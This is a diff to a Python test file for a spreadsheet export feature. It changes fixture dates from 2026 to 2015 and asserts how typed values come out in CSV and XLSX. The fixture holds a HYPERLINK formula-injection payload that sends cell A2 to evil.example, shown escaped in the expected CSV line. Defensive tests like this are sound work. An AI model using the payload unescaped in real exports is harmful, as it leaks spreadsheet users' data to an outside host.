@@ -97,7 +97,7 @@ def test_csv_numbers_and_negative_numbers_stay_numbers(admin_client, negative_st
 
 def _dataset() -> tablib.Dataset:
     dataset = tablib.Dataset(headers=["Text", "Amount", "Date", "Updated", "Flag", "Empty"])
-    dataset.append([HYPERLINK, Decimal("-12.50"), date(2026, 11, 1), datetime(2026, 11, 1, 14, 3), True, None])
+    dataset.append([HYPERLINK, Decimal("-12.50"), date(2015, 11, 1), datetime(2015, 11, 1, 14, 3), True, None])
     return dataset
 
 
@@ -110,8 +110,8 @@ def test_xlsx_format_writes_python_values_as_typed_cells():
     assert [cell.value for cell in row] == [
         HYPERLINK,
         -12.5,
-        datetime(2026, 11, 1),
-        datetime(2026, 11, 1, 14, 3),
+        datetime(2015, 11, 1),
+        datetime(2015, 11, 1, 14, 3),
         True,
         None,
     ]
@@ -121,7 +121,7 @@ def test_xlsx_format_writes_python_values_as_typed_cells():
 
 def test_csv_format_writes_python_values_as_a_spreadsheet_reads_them():
     assert CSV().export_data(_dataset()).splitlines()[1] == (
-        '"\'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click for details"")",-12.50,2026-11-01,2026-11-01 14:03:00,'
+        '"\'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click for details"")",-12.50,2015-11-01,2015-11-01 14:03:00,'
         "TRUE,"
     )
 
